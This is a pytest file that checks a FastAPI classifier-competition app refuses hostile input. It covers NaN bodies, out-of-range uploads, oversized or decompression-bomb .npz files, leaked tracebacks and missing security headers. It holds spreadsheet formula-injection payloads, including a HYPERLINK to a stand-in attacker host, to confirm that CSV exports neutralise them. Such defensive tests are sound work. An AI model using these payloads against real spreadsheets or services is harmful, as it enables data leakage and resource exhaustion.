"""Hostile input (issue 15): each case gets a clear 4xx, nothing is stored, nothing answers 500.

- NaN and Infinity in any JSON body that fails validation, the labelling hot path included (JSON has no NaN:
  the 422 that echoes them must still render); out-of-range selection uploads (ordinals beyond 64 bits,
  probabilities outside [0, 1], NaN distances); a predictions file whose sha256 holds bytes that are not
  UTF-8; .npz uploads whose arrays claim more rows than the competition has images (refused from their
  headers, before anything is inflated);
- smoothing α beyond [0.001, 1000] at creation, and a leaderboard that works at both bounds;
- preprocessing overrides (data_config) with impossible input sizes or statistics;
- CSV cells a spreadsheet would run as formulas (public leaderboard CSV and admin exports);
- worker tracebacks: the public sees a one-line reason, admins the detail;
- security headers (no framing, no sniffing) on every kind of response.
"""

import csv
import io
import json
import zipfile

import numpy as np
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, update

from app.classifiers.models import Classifier, ClassifierStatus
from app.competitions.models import Competition
from app.db.engine import create_db_engine
from app.jobs.models import Job, JobKind, JobStatus
from app.users.models import Role
from tests.conftest import bearer, make_user
from tests.jobs.test_classifier_registration import add_images, assert_nothing_stored, register
from tests.support.jobs import claimed_shard, diagnosis_upload

NAN_BODIES = {
    "/api/v1/competitions": '{"name": "nan-test", "smoothing": NaN}',
    "/api/v1/users": '{"username": "x", "role": "annotator", "password": Infinity}',
}


def test_nan_and_infinity_in_invalid_json_bodies_get_a_422(
    client, competition, admin_headers, annotator_headers
):
    bodies = {
        **NAN_BODIES,
        f"/api/v1/competitions/{competition.id}/labelling/answers": (
            '{"answers":[{"question_id":1,"answer":true,"seconds":NaN}]}'
        ),
        f"/api/v1/competitions/{competition.id}/labelling/flags": '{"image_sha256": -Infinity}',
    }
    for path, body in bodies.items():
        headers = annotator_headers if "labelling" in path else admin_headers
        response = client.post(path, content=body, headers={**headers, "Content-Type": "application/json"})
        assert response.status_code == 422, (path, response.status_code, response.text)
        assert isinstance(response.json()["detail"], list), response.text
    answered = client.post(
        f"/api/v1/competitions/{competition.id}/labelling/answers",
        content='{"answers":[{"question_id":1,"answer":true,"seconds":NaN}]}',
        headers={**annotator_headers, "Content-Type": "application/json"},
    )
    assert "NaN" in answered.text


@pytest.mark.parametrize("smoothing", ["1e308", "1e-320", "Infinity", "NaN", "0", "-1"])
def test_extreme_smoothing_is_refused_at_creation(client, db_session, admin_headers, smoothing):
    response = client.post(
        "/api/v1/competitions",
        content=f'{{"name": "extreme", "smoothing": {smoothing}}}',
        headers={**admin_headers, "Content-Type": "application/json"},
    )
    assert response.status_code == 422, response.text
    assert db_session.scalar(select(func.count()).select_from(Competition)) == 0


@pytest.mark.parametrize("smoothing", [0.001, 1000.0])
def test_the_leaderboard_answers_at_the_smoothing_bounds(world_app, world, world_settings, smoothing):
    engine = create_db_engine(world_settings.sqlalchemy_url)
    with engine.begin() as connection:
        connection.execute(
            update(Competition).where(Competition.id == world.competition_id).values(smoothing=smoothing)
        )
    engine.dispose()
    base = f"/competitions/{world.competition_id}/leaderboard"
    with TestClient(world_app) as client:
        for path in (
            base,
            f"/api/v1{base}",
            f"/api/v1{base}?format=csv",
            f"/api/v1{base}?format=csv&table=pairs",
            f"/api/v1{base}?format=csv&table=summary",
            f"/api/v1{base}/history",
        ):
            response = client.get(path)
            assert response.status_code == 200, (path, response.status_code, response.text[:500])
        board = client.get(f"/api/v1{base}").json()
        assert board["smoothing"] == smoothing
        assert all(np.isfinite(row["mad_score"]) for row in board["classifiers"])


def test_smoothing_beyond_the_bounds_cannot_be_stored(world, world_settings):
    engine = create_db_engine(world_settings.sqlalchemy_url)
    try:
        for smoothing in (1e308, 1e-300, float("inf")):
            with pytest.raises(Exception, match="smoothing"), engine.begin() as connection:
                connection.execute(
                    update(Competition)
                    .where(Competition.id == world.competition_id)
                    .values(smoothing=smoothing)
                )
    finally:
        engine.dispose()


@pytest.fixture
def select_lease(client, db_session, competition):
    """A running select job of two classifiers over 5 images, claimed by a worker: (url, lease, headers)."""
    add_images(db_session, competition, 5)
    ids = []
    for name in ("left", "right"):
        classifier = Classifier(
            competition_id=competition.id, name=name, source="predictions-file", status=ClassifierStatus.ready
        )
        db_session.add(classifier)
        db_session.flush()
        ids.append(classifier.id)
    job = Job(
        competition_id=competition.id,
        kind=JobKind.select,
        key=f"select:{ids[0]}:{ids[1]}",
        classifier_id=ids[0],
        other_classifier_id=ids[1],
        progress_total=1,
    )
    db_session.add(job)
    db_session.commit()
    worker = bearer(db_session, make_user(db_session, "gpu-box", Role.worker))
    (claimed,) = client.post("/api/v1/jobs/claim", json={"worker": "w"}, headers=worker).json()["jobs"]
    return f"/api/v1/jobs/{claimed['id']}/selection", claimed["lease_token"], worker, job


def selection(lease: str, **changes) -> dict:
    """A valid selection upload of two images, with some columns changed."""
    body = {
        "lease_token": lease,
        "n_selected": 2,
        "ordinals": [0, 1],
        "distances": [1.5, 1.0],
        "labels_a": [1, 2],
        "labels_b": [3, 4],
        "probs_a": [0.9, 0.8],
        "probs_b": [0.95, 0.85],
        "diagnosis": diagnosis_upload(2),
    }
    return {**body, **changes}


def test_out_of_range_selection_uploads_are_refused_and_the_job_completes_after(
    client, db_session, select_lease
):
    url, lease, worker, job = select_lease
    bad = {
        "probability-above-one": '"probs_a": [5.0, 0.8]',
        "negative-probability": '"probs_b": [-3, 0.85]',
        "nan-distance": '"distances": [NaN, 1.0]',
        "infinite-distance": '"distances": [Infinity, 1.0]',
        "negative-distance": '"distances": [-1, 1.0]',
        "ordinal-beyond-64-bits": f'"ordinals": [{2**63}, 1]',
        "huge-ordinal": f'"ordinals": [{10**40}, 1]',
        "negative-ordinal": '"ordinals": [-1, 1]',
        "label-beyond-classes": '"labels_a": [1000, 2]',
        "negative-label": '"labels_b": [-2, 4]',
        "diagnosis-of-another-selection": f'"diagnosis": {json.dumps(diagnosis_upload(1))}',
        "diagnosis-counting-beyond-its-disagreements": '"diagnosis": '
        + json.dumps({**diagnosis_upload(2), "disagreements": 1}),
        "diagnosis-with-an-unknown-rule": '"diagnosis": '
        + json.dumps({**diagnosis_upload(2), "rule": "vibes"}),
    }
    for case, replacement in bad.items():
        key = replacement.split(":")[0].strip('"')
        text = json.dumps(selection(lease, **{key: "PLACEHOLDER"})).replace(
            '"PLACEHOLDER"', replacement.split(": ", 1)[1]
        )
        response = client.post(url, content=text, headers={**worker, "Content-Type": "application/json"})
        assert response.status_code == 422, (case, response.status_code, response.text)
        assert db_session.get(Job, job.id, populate_existing=True).status == JobStatus.running, case
    done = client.post(url, json=selection(lease), headers=worker)
    assert done.status_code == 200 and done.json()["status"] == "done", done.text


def npz_with_header(name: str, shape: tuple, dtype: str = "<f8", data: bytes = b"") -> bytes:
    """An .npz whose member `name` has an .npy header claiming `shape`, followed by `data` only."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": dtype, "fortran_order": False, "shape": shape})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{name}.npy", header.getvalue() + data)
    return buffer.getvalue()


def zeros_npz(**shapes) -> bytes:
    """An .npz of zero arrays of the given shapes: tiny deflated, huge inflated."""
    buffer = io.BytesIO()
    np.savez_compressed(buffer, **{name: np.zeros(shape, dtype) for name, (shape, dtype) in shapes.items()})
    return buffer.getvalue()


def test_prediction_files_that_lie_about_their_size_or_text_are_refused(
    client, db_session, competition, admin_headers, settings
):
    hashes = add_images(db_session, competition, 6)
    non_utf8 = io.BytesIO()
    sha = np.array([h.encode() for h in hashes], dtype="S64")
    sha[0] = b"\xff\xfe" + b"0" * 62
    np.savez(non_utf8, sha256=sha, top1=np.zeros(6, np.int64), prob=np.full(6, 0.9))
    cases = {
        "non-utf8-sha256": (non_utf8.getvalue(), "not images of this competition"),
        "header-claims-2**40-rows": (npz_with_header("top1", (2**40,), "<i8"), "at most"),
        "inflates-to-80-MB": (
            zeros_npz(sha256=((6,), "S64"), top1=((10_000_000,), np.int64), prob=((6,), np.float64)),
            "at most",
        ),
    }
    assert len(cases["inflates-to-80-MB"][0]) < 200_000
    for case, (data, message) in cases.items():
        response = register(
            client,
            competition,
            admin_headers,
            name=f"elsewhere-{case}",
            source="predictions-file",
            files={"file": ("p.npz", data)},
        )
        assert response.status_code == 422, (case, response.status_code, response.text[:500])
        assert message in response.json()["detail"], (case, response.json()["detail"])
        assert_nothing_stored(db_session, settings)


def test_worker_shards_that_lie_about_their_size_are_refused(client, db_session, competition, settings):
    shard_job = claimed_shard(client, db_session, competition, 5)
    claimed, worker = shard_job.claimed, shard_job.worker
    for data in (npz_with_header("top1", (2**40,), "<i4"), zeros_npz(top1=((50_000_000,), np.int32))):
        response = client.post(
            f"/api/v1/jobs/{claimed['id']}/predictions",
            data={"lease_token": claimed["lease_token"]},
            files={"predictions": ("shard.npz", data)},
            headers=worker,
        )
        assert response.status_code == 422 and "at most" in response.json()["detail"], response.text[:500]


@pytest.mark.parametrize(
    "data_config",
    [
        {"input_size": [3, 100000, 100000]},
        {"input_size": [3, 0, 0]},
        {"input_size": [3, -5, 32]},
        {"mean": [0.5, 0.5, 1e308]},
        {"std": [0.2, 0.2, 1e308]},
        {"crop_pct": 0},
    ],
)
def test_impossible_preprocessing_is_refused_at_registration(
    client, db_session, competition, admin_headers, settings, tmp_path, data_config
):
    from tests.jobs.conftest import write_weights

    weights = write_weights(tmp_path / "resnet.safetensors", "test_resnet", 0)
    response = register(
        client,
        competition,
        admin_headers,
        name="preprocessed",
        source="timm-weights",
        architecture="test_resnet",
        data_config=json.dumps(data_config),
        files={"file": ("resnet.safetensors", weights.read_bytes())},
    )
    assert response.status_code == 422 and "data_config" in response.json()["detail"], response.text
    assert_nothing_stored(db_session, settings)


FORMULAS = ('=HYPERLINK("http://evil.example/?x","y")', "@SUM(1+1)", "+1+cmd", "-2+3", "\t=1", "\r=1")


def csv_cells(text: str) -> list[str]:
    """Every cell of a CSV text."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_cells_never_start_a_formula(world_app, world, world_settings):
    engine = create_db_engine(world_settings.sqlalchemy_url)
    with engine.begin() as connection:
        for classifier_id, formula in zip(world.classifier_ids, FORMULAS, strict=False):
            connection.execute(update(Classifier).where(Classifier.id == classifier_id).values(name=formula))
        keys = connection.scalar(select(Competition.class_keys).where(Competition.id == world.competition_id))
        formula_keys = [*FORMULAS[3:], *keys[3:]]
        connection.execute(
            update(Competition).where(Competition.id == world.competition_id).values(class_keys=formula_keys)
        )
    engine.dispose()
    base = f"/api/v1/competitions/{world.competition_id}"
    with TestClient(world_app) as client:
        texts = [
            client.get(f"{base}/leaderboard?format=csv&table={table}").text
            for table in ("classifiers", "pairs", "summary")
        ]
        texts += [
            client.get(f"{base}/exports/{table}?format=csv", headers=world.headers("admin")).text
            for table in ("subsets", "votes", "questions", "predictions")
        ]
    cells = [cell for text in texts for cell in csv_cells(text)]
    dangerous = [
        cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell)
    ]
    assert not dangerous, dangerous[:10]
    assert "'" + FORMULAS[0] in cells and "'-2+3" in cells  # a classifier name, a class key


def test_the_public_sees_a_one_line_reason_and_admins_the_traceback(world_app, world, world_settings):
    traceback = (
        "Traceback (most recent call last):\n"
        '  File "/srv/mad/workers/worker.py", line 137, in run_claim\n'
        '  File "/usr/lib/python3.11/site-packages/torch/nn/modules/module.py", line 1736\n'
        "RuntimeError: shape '[1, 3, 0, 0]' is invalid for input of size 3072\n"
    )
    classifier_id = world.classifier_ids[0]
    engine = create_db_engine(world_settings.sqlalchemy_url)
    with engine.begin() as connection:
        connection.execute(
            update(Classifier)
            .where(Classifier.id == classifier_id)
            .values(status=ClassifierStatus.failed, error=traceback)
        )
    engine.dispose()
    reason = "RuntimeError: shape '[1, 3, 0, 0]' is invalid for input of size 3072"
    with TestClient(world_app) as client:
        for role in ("anonymous", "annotator", "worker", "admin"):
            one = client.get(f"/api/v1/classifiers/{classifier_id}", headers=world.headers(role)).json()
            listed = client.get(
                f"/api/v1/competitions/{world.competition_id}/classifiers", headers=world.headers(role)
            ).json()
            (in_list,) = [c for c in listed if c["id"] == classifier_id]
            for read in (one, in_list):
                assert read["error"] == reason, (role, read)
                assert read["error_detail"] == (traceback if role == "admin" else None), (role, read)
                if role != "admin":
                    assert "/srv/mad" not in json.dumps(read) and "site-packages" not in json.dumps(read)


def test_every_response_forbids_framing_and_sniffing(world_app, world):
    sha = world.hashes[0]
    with TestClient(world_app, raise_server_exceptions=False) as client:
        responses = {
            path: client.get(path, headers=world.headers("admin"), follow_redirects=False)
            for path in (
                "/",
                "/login",
                f"/competitions/{world.competition_id}/label",
                "/admin",
                "/api/v1/competitions",
                f"/images/{sha}",
                f"/thumbnails/{sha}",
                "/static/app.css",
                "/no-such-page",
                "/docs",
            )
        }
        responses["POST /login"] = client.post("/login", data={})
    for path, response in responses.items():
        headers = response.headers
        assert headers.get("x-frame-options") == "DENY", (path, response.status_code)
        assert "frame-ancestors 'none'" in headers.get("content-security-policy", ""), path
        assert headers.get("x-content-type-options") == "nosniff", path


def test_a_taxonomy_with_exploding_paths_is_refused_through_the_api(client, db_session, admin_headers):
    from tests.core.test_taxonomy import ladder_taxonomy

    response = client.post(
        "/api/v1/competitions",
        json={"name": "ladder", "taxonomy": "custom", "taxonomy_source": ladder_taxonomy(12)},
        headers=admin_headers,
    )
    assert response.status_code == 422, response.text
    assert "has 4,096 paths from the root" in response.json()["detail"]
    assert db_session.scalar(select(func.count()).select_from(Competition)) == 0
